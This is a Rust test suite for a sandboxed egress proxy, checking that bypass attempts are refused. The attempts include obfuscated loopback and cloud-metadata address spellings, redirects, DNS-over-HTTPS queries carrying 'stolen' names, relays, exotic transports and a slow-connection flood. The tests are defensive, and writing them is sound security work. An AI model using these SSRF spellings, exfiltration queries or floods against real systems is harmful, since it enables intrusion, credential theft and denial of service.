//! Ways to places that are not allowed, through what is: other spellings, redirects, relays, other protocols, floods.

use crate::support::{PRELUDE, Witness, World, collect, finish};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::process::{Command, Stdio};

/// Asks the sandbox's explicit proxy for something, and says the status, or nothing where it hangs up.
const ASK: &str = "\
def ask(head, host='10.77.0.1', port=3128):
    try:
        with socket.create_connection((host, port), 20) as s:
            s.sendall(head.encode())
            line = s.makefile('rb').readline().decode().split()
            return int(line[1]) if len(line) > 1 else None
    except OSError as error:
        return name(error.errno) if error.errno else type(error).__name__
";

fn probe(world: &World, flags: &[&str], code: &str, arguments: &[&str]) -> Value {
    world.probe_with(flags, &format!("{ASK}{code}"), arguments)
}

/// A server of the host's on loopback that answers each connection by this, until it is dropped.
struct Answering {
    listener: TcpListener,
    served: Option<std::thread::JoinHandle<usize>>,
}

impl Answering {
    fn with(answer: String) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let serving = listener.try_clone().unwrap();
        let served = std::thread::spawn(move || {
            let mut count = 0;
            while let Ok((mut stream, _)) = serving.accept() {
                let mut head = [0; 4096];
                // The test's own last connection says nothing and means the end.
                if stream.read(&mut head).unwrap_or(0) == 0 {
                    break;
                }
                count += 1;
                let _ = stream.write_all(answer.as_bytes());
            }
            count
        });
        Self { listener, served: Some(served) }
    }

    fn port(&self) -> u16 {
        self.listener.local_addr().unwrap().port()
    }

    /// How many came.
    fn end(mut self) -> usize {
        drop(std::net::TcpStream::connect((Ipv4Addr::LOCALHOST, self.port())).unwrap());
        self.served.take().unwrap().join().unwrap()
    }
}

attack! {
    /// A rule may allow the place by name; it is the address that counts, however it is written.
    fn no_spelling_of_this_machines_addresses_gets_there(world) {
        let witness = Witness::listen();
        let port = witness.port();
        let hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "10.77.0.1"];
        let rules: Vec<String> = hosts.iter().map(|host| format!("* http://{host}:{port}/**")).collect();
        let flags: Vec<&str> = rules.iter().flat_map(|rule| ["--allow", rule.as_str()]).collect();
        let code = "\
spellings = ['127.0.0.1', '127.1', '127.0.1', '2130706433', '0x7f000001', '0x7f.0x0.0x0.0x1', '0177.0.0.1', '017700000001',
    '127.0.0.1.', 'localhost', 'LOCALHOST', 'localhost.', 'a.localhost', '0', '0.0.0.0', '[::1]', '[0:0:0:0:0:0:0:1]', '[::]', '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[64:ff9b::127.0.0.1]', '[64:ff9b:1::7f00:1]', '[2002:7f00:1::]', '[2001:0:7f00:1::]',
    '[fe80::1%lo]', '127.0.0.1%2e', '127。0。0。1', '①②⑦.0.0.1', '127.0.0.1@example.com', 'example.com@127.0.0.1', '127.0.0.1.nip.io', 'localtest.me']
port = arguments[0]
def direct(spelling):
    try: return ask(f'GET / HTTP/1.1\\r\\nHost: {spelling}:{port}\\r\\n\\r\\n', socket.gethostbyname(spelling.rstrip('.')), int(port))
    except (OSError, UnicodeError): return None
say([[ask(f'GET http://{s}:{port}/ HTTP/1.1\\r\\nHost: {s}:{port}\\r\\n\\r\\n') for s in spellings],
    [ask(f'CONNECT {s}:{port} HTTP/1.1\\r\\nHost: {s}:{port}\\r\\n\\r\\n') for s in spellings], [direct(s) for s in spellings if '[' not in s]])";
        let found = probe(world, &flags, code, &[&port.to_string()]);
        assert_eq!(witness.visitors(), 0, "{found}");
        let statuses = found[0].as_array().unwrap();
        assert!(statuses.len() > 30 && statuses.iter().all(|status| status != 200), "{found}");
        let control = "def reach():\n    with socket.create_connection(('127.1', int(arguments[0])), 5): pass\nsay(attempt(reach))";
        assert_eq!(world.probe_outside(control, &[&port.to_string()]), "ok");
        assert_eq!(witness.visitors(), 1);
    }
}

attack! {
    fn no_spelling_of_a_metadata_services_address_gets_there(world) {
        let hosts = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "[fd00:ec2::254]", "[::ffff:169.254.169.254]",
            "[64:ff9b::a9fe:a9fe]", "metadata.google.internal"];
        let rules: Vec<String> = hosts.iter().map(|host| format!("* http://{host}/**")).collect();
        let flags: Vec<&str> = rules.iter().flat_map(|rule| ["--allow", rule.as_str()]).collect();
        let code = "\
spellings = ['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '169.254.169.254.', '[::ffff:a9fe:a9fe]',
    '[::ffff:169.254.169.254]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::]', '169.254.170.2', '100.100.100.200', '168.63.129.16', '192.0.0.192',
    '[fd00:ec2::254]', 'metadata.google.internal']
say([ask(f'GET http://{s}/latest/meta-data/ HTTP/1.1\\r\\nHost: {s}\\r\\n\\r\\n') for s in spellings])";
        let found = probe(world, &flags, code, &[]);
        let refused = |status: &Value| [400, 403, 421, 502].iter().any(|no| status == no) || status.is_null();
        assert!(found.as_array().unwrap().iter().all(refused), "{found}");
        let requests = world.list(&["audit", "log", "--session", "last"]);
        assert!(!requests.iter().any(|event| event["event"] == "response_finished" && event["status"] == 200), "{requests:?}");
    }
}

attack! {
    /// The second request is judged like the first.
    fn a_redirect_does_not_lead_to_a_refused_host(world) {
        let answer = "HTTP/1.1 302 Found\r\nlocation: http://refused.example/there\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
        let server = Answering::with(answer.to_owned());
        let to = |host: &str| format!("{host}:80:127.0.0.1:{}", server.port());
        let (one, other) = (to("allowed.example"), to("refused.example"));
        let flags = ["--allow", "* http://allowed.example/**", "--connect-to", &one, "--connect-to", &other];
        let curl = |url| finish(world.exec(&flags, &["curl", "-s", "-L", "--max-redirs", "3", "-o", "/dev/null", "-w", "%{http_code} %{num_redirects}", url]), b"").text();
        assert_eq!(curl("http://allowed.example/"), "403 1");
        assert_eq!(curl("http://refused.example/"), "403 0");
        let mut both = flags.to_vec();
        both.extend(["--allow", "* http://refused.example/**"]);
        let argv = ["curl", "-s", "-L", "--max-redirs", "1", "-o", "/dev/null", "-w", "%{num_redirects}", "http://allowed.example/"];
        assert_eq!(finish(world.exec(&both, &argv), b"").text(), "1");
        assert_eq!(server.end(), 3, "one of the first run, two of the one that may");
    }
}

attack! {
    /// Names in questions that only the resolver asked could read: over TLS, or as requests to one that is allowed for others.
    fn encrypted_questions_carry_no_name_out(world) {
        let witness = Witness::listen();
        let to = |host: &str, port: u16| format!("{host}:{port}:127.0.0.1:{}", witness.port());
        let (tls, plain, cloud) = (to("dns.example", 853), to("dns.example", 53), to("dns.example", 443));
        let flags = ["--allow", "* dns.example:853/**", "--allow", "* http://dns.example:53/**", "--allow", "GET dns.example/allowed",
            "--connect-to", &tls, "--connect-to", &plain, "--connect-to", &cloud];
        let code = "\
import ssl, urllib.request, urllib.error
question = struct.pack('>6H', 7, 0x0100, 1, 0, 0, 0) + b'\\x06stolen\\x04data\\x07example\\0\\0\\x10\\0\\1'
def over_tcp(port, tls, host='dns.example'):
    try:
        s = socket.create_connection((host, port), 20)
        if tls: s = ssl._create_unverified_context().wrap_socket(s, server_hostname=host)
        s.sendall(struct.pack('>H', len(question)) + question)
        socket.socket.shutdown(s, socket.SHUT_WR)
        return s.recv(500)[:4].decode('latin1')
    except OSError as error: return type(error).__name__
def over_https(url, data=None):
    request = urllib.request.Request(url, data, {'content-type': 'application/dns-message'})
    context = ssl._create_unverified_context()
    try: return urllib.request.urlopen(request, timeout=20, context=context).status
    except urllib.error.HTTPError as error: return error.code
    except OSError as error: return type(error).__name__
say([over_tcp(853, True), over_tcp(853, False), over_tcp(53, False), over_tcp(853, True, '1.1.1.1'),
    over_https('https://dns.example/dns-query', question), over_https('https://dns.example/dns-query?dns=AAAB'), over_https('https://1.1.1.1/dns-query', question),
    over_https('https://cloudflare-dns.com/dns-query?name=stolen.data.example')])";
        let found = probe(world, &flags, code, &[]);
        let found = found.as_array().unwrap();
        assert!(found[..4].iter().all(|said| said == "" || said == "HTTP" || said.as_str().unwrap().contains("Error")), "{found:?}");
        assert!(found[4..].iter().all(|status| status == 403), "{found:?}");
        assert_eq!(witness.visitors(), 0, "no question came: {found:?}");
        probe(world, &flags, "say(ask('GET http://dns.example:53/ HTTP/1.1\\r\\nHost: dns.example:53\\r\\nConnection: close\\r\\n\\r\\n') if arguments else 0)", &[]);
        let script = "curl -s --max-time 2 -o /dev/null http://dns.example:53/";
        world.shell(&flags, script);
        assert_eq!(witness.visitors(), 1, "what can be judged and is allowed does go");
    }
}

attack! {
    /// Discovery protocols shout to everybody in reach; nobody is.
    fn nobody_hears_a_broadcast_or_a_multicast(world) {
        let host = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
        host.set_nonblocking(true).unwrap();
        let group = Ipv4Addr::new(239, 255, 77, 77);
        host.join_multicast_v4(&group, &Ipv4Addr::LOCALHOST).unwrap();
        let code = "\
port = int(arguments[0])
def shout(family, where, port):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        if family == socket.AF_INET:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton('127.0.0.1'))
        s.sendto(b'omni-attack', (where, port) if family == socket.AF_INET else (where, port, 0, 1))
v4, v6 = socket.AF_INET, socket.AF_INET6
say([attempt(lambda: shout(v4, '239.255.77.77', port)), attempt(lambda: shout(v4, '255.255.255.255', port)), attempt(lambda: shout(v4, '127.255.255.255', port)),
    attempt(lambda: shout(v4, '224.0.0.251', 5353)), attempt(lambda: shout(v4, '239.255.255.250', 1900)), attempt(lambda: shout(v6, 'ff02::fb', 5353)),
    attempt(lambda: shout(v6, 'ff02::1', port))])";
        let port = host.local_addr().unwrap().port().to_string();
        let heard = || std::iter::from_fn(|| host.recv(&mut [0; 32]).ok()).count();
        assert_eq!(world.probe_outside(code, &[&port])[0], "ok");
        assert!(heard() >= 1, "the witness hears what is shouted outside");
        world.probe(code, &[&port]);
        assert_eq!(heard(), 0);
    }
}

attack! {
    /// SCTP, DCCP, UDP-Lite, ICMP and multipath TCP: what can be opened is captured, the rest is not there.
    fn no_other_transport_leaves(world) {
        let witness = Witness::listen();
        let code = "\
def over(kind, protocol, family=socket.AF_INET, where='127.0.0.1'):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(20)
        s.connect((where, int(arguments[0])))
        if kind != socket.SOCK_STREAM: s.send(b'x'); s.recv(1)
stream, datagram, packet = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET
say([attempt(lambda: over(*each)) for each in ((stream, 132), (packet, 132), (6, 33), (datagram, 136), (datagram, 1), (socket.SOCK_RAW, 1), (stream, 262))])";
        let port = witness.port().to_string();
        let control = "say(attempt(lambda: socket.create_connection(('127.0.0.1', int(arguments[0])), 5).close()))";
        assert_eq!(world.probe_outside(control, &[&port]), "ok");
        assert_eq!(witness.visitors(), 1);
        let found = world.probe(code, &[&port]);
        assert!(found.as_array().unwrap().iter().all(|outcome| outcome != "ok"), "{found}");
        assert_eq!(witness.visitors(), 0);
        let captured = "\
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(20); s.connect(('203.0.113.9', 80))
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: 203.0.113.9\\r\\n\\r\\n'); say(s.recv(12).decode())
except OSError as error: say(name(error.errno))";
        let found = world.probe(captured, &[]);
        assert!(found == "HTTP/1.1 403" || found == "EPROTONOSUPPORT" || found == "EPERM", "{found}");
    }
}

attack! {
    /// A program inside that passes on what another one asks for is one more client, and no more than that.
    fn a_relay_inside_gains_nothing(world) {
        let server = Answering::with("HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_owned());
        let to = |host: &str| format!("{host}:80:127.0.0.1:{}", server.port());
        let (one, other) = (to("allowed.example"), to("refused.example"));
        let flags = ["--allow", "* http://allowed.example/**", "--connect-to", &one, "--connect-to", &other];
        let code = "\
def relay():
    listener = socket.create_server(('127.0.0.1', 0))
    def serve():
        while True:
            near, _ = listener.accept()
            far = socket.create_connection(('10.77.0.1', 3128), 20)
            far.sendall(near.recv(4000)); near.sendall(far.recv(4000)); near.close(); far.close()
    threading.Thread(target=serve, daemon=True).start()
    return listener.getsockname()[1]
port = relay()
def get(host): return f'GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n'
def through(host): return f'CONNECT {host}:80 HTTP/1.1\\r\\nHost: {host}:80\\r\\n\\r\\n'
def nested(host):
    try:
        with socket.create_connection(('10.77.0.1', 3128), 20) as s:
            s.sendall(through('10.77.0.1:3128'.split(':')[0]).encode()); s.recv(4000)
            s.sendall(get(host).encode()); return s.recv(4000)[9:12].decode()
    except OSError as error: return type(error).__name__
say([ask(get('allowed.example')), ask(get('allowed.example'), '127.0.0.1', port), ask(get('refused.example')), ask(get('refused.example'), '127.0.0.1', port),
    nested('refused.example') != '200', attempt(lambda: socket.create_connection(('127.255.77.1', 15001), 5).sendall(get('refused.example').encode()))])";
        let found = probe(world, &flags, code, &[]);
        assert_eq!(found.as_array().unwrap()[..5], [json!(200), json!(200), json!(403), json!(403), json!(true)], "{found}");
        assert_eq!(server.end(), 2);
    }
}

/// A session that stays until it is told to end.
fn standing(world: &World, flags: &[&str]) -> std::process::Child {
    let mut command: Command = world.exec(flags, &["sh", "-c", "echo ready; exec cat"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdout.as_mut().unwrap().read_exact(&mut [0; 6]).unwrap();
    child
}

attack! {
    /// There is no port on the host and no socket with a name that another user or another sandbox could use.
    fn a_sessions_proxy_serves_its_own_sandbox_alone(world) {
        let server = Answering::with("HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_owned());
        let to = format!("allowed.example:80:127.0.0.1:{}", server.port());
        let flags = ["--allow", "* http://allowed.example/**", "--connect-to", &to];
        let open = standing(world, &flags);
        let ask = format!("{ASK}\nhead = 'GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n'\nsay([ask(head, host, port) for host, port in {})",
            "(('10.77.0.1', 3128), ('10.77.0.2', 3128), ('127.255.77.1', 15001), ('fd77::1', 3128), ('fd77::77', 15001))]");
        let other = world.probe_with(&[], &ask, &[]);
        assert_eq!(other[0], 403, "another sandbox has a proxy of its own, with its own rules: {other}");
        assert!(other.as_array().unwrap().iter().all(|status| status != 200), "{other}");
        let tables = ["/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6"].map(|path| std::fs::read_to_string(path).unwrap_or_default());
        assert!(!tables.iter().any(|table| table.contains(":3A99 ")), "no listener of the sandbox's is in the host's network: {tables:?}");
        let own = world.probe_with(&flags, &ask, &[]);
        assert_eq!(own[0], 200, "{own}");
        assert_eq!(collect(open, b"").code(), Some(0));
        let served = own.as_array().unwrap().iter().filter(|status| **status == 200).count();
        assert_eq!(server.end(), served, "nobody else came: {own}");
    }
}

attack! {
    /// Thousands of connections that never finish what they say, and one head without an end.
    fn a_flood_of_slow_connections_harms_no_other_session(world) {
        let code = "\
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
try:
    while len(held) < min(3000, hard - 50):
        s = socket.socket(); s.settimeout(20); s.connect(('203.0.113.9', 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: 203.'); held.append(s)
except OSError: pass
def endless():
    s = socket.create_connection(('203.0.113.10', 80), 20)
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: 203.0.113.10\\r\\n')
    sent = 0
    while sent < 64 << 20: s.sendall(b'x-filler: ' + b'a' * 8000 + b'\\r\\n'); sent += 8012
bounded = attempt(endless)
say([len(held), bounded]); sys.stdin.readline()
for s in held: s.close()
say(ask('GET http://refused.example/ HTTP/1.1\\r\\nHost: refused.example\\r\\n\\r\\n'))";
        let source = format!("{PRELUDE}\n{ASK}\n{code}");
        let mut command = world.exec(&[], &["/usr/bin/python3", "-I", "-c", &source]);
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut line = Vec::new();
        let stdout = child.stdout.as_mut().unwrap();
        while line.last() != Some(&b'\n') {
            let mut byte = [0];
            stdout.read_exact(&mut byte).unwrap();
            line.push(byte[0]);
        }
        let found: Value = serde_json::from_slice(&line).unwrap();
        assert!(found[0].as_u64().unwrap() > 500, "{found}");
        assert_ne!(found[1], "ok", "a head without an end is cut off: {found}");
        let memory: u64 = tree(child.id()).iter().map(|pid| resident_kilobytes(*pid)).sum();
        assert!(memory < 512 * 1024, "{memory} KiB in the flooded session");
        let other = probe(world, &[], "say(ask('GET http://refused.example/ HTTP/1.1\\r\\nHost: refused.example\\r\\n\\r\\n'))", &[]);
        assert_eq!(other, 403, "another session is served meanwhile");
        let outcome = collect(child, b"\n");
        assert_eq!(outcome.text(), "403\n", "and this one again, once it has room: {outcome:?}");
    }
}

/// A process and all that descend from it.
fn tree(pid: u32) -> Vec<u32> {
    let children = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
    let below = children.split_whitespace().filter_map(|child| child.parse().ok()).flat_map(tree);
    std::iter::once(pid).chain(below).collect()
}

fn resident_kilobytes(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or_default()
}

attack! {
    /// A `tcp` rule lets bytes through to its own host and port, and a `host_port` one to that port of the host's own.
    fn a_tcp_rule_opens_its_host_and_port_alone(world) {
        let (opened, own, shut) = (Answering::with("opened".into()), Answering::with("own".into()), Witness::listen());
        let profile = world.place().join("tcp.yaml");
        let rules = format!("name: raw\negress:\n  - tcp: db.example:5432\n  - host_port: {}\n", own.port());
        world.write(&profile, &rules);
        let to = format!("db.example:5432:127.0.0.1:{}", opened.port());
        let to_shut = format!("db.example:5433:127.0.0.1:{}", shut.port());
        let flags = ["--profile", profile.to_str().unwrap(), "--connect-to", &to, "--connect-to", &to_shut];
        let talk = "\
def talk(host, port):
    try:
        with socket.create_connection((host, int(port)), 20) as s:
            s.sendall(b'\\0\\0\\0\\x08')
            return s.recv(100).decode(errors='replace')
    except OSError as error: return type(error).__name__
own, shut = arguments
loopback = 'host.omni.internal'
say([talk('db.example', 5432), talk(loopback, own), talk('db.example', 5433), talk(loopback, shut), talk('127.0.0.1', own)])";
        let said = world.probe_with(&flags, talk, &[&own.port().to_string(), &shut.port().to_string()]);
        let said: Vec<&str> = said.as_array().unwrap().iter().map(|text| text.as_str().unwrap()).collect();
        assert_eq!(said[..2], ["opened", "own"]);
        assert!(said[2..].iter().all(|text| matches!(*text, "" | "ConnectionResetError" | "ConnectionRefusedError")), "{said:?}");
        assert_eq!((opened.end(), own.end(), shut.visitors()), (1, 1, 0));
    }
}
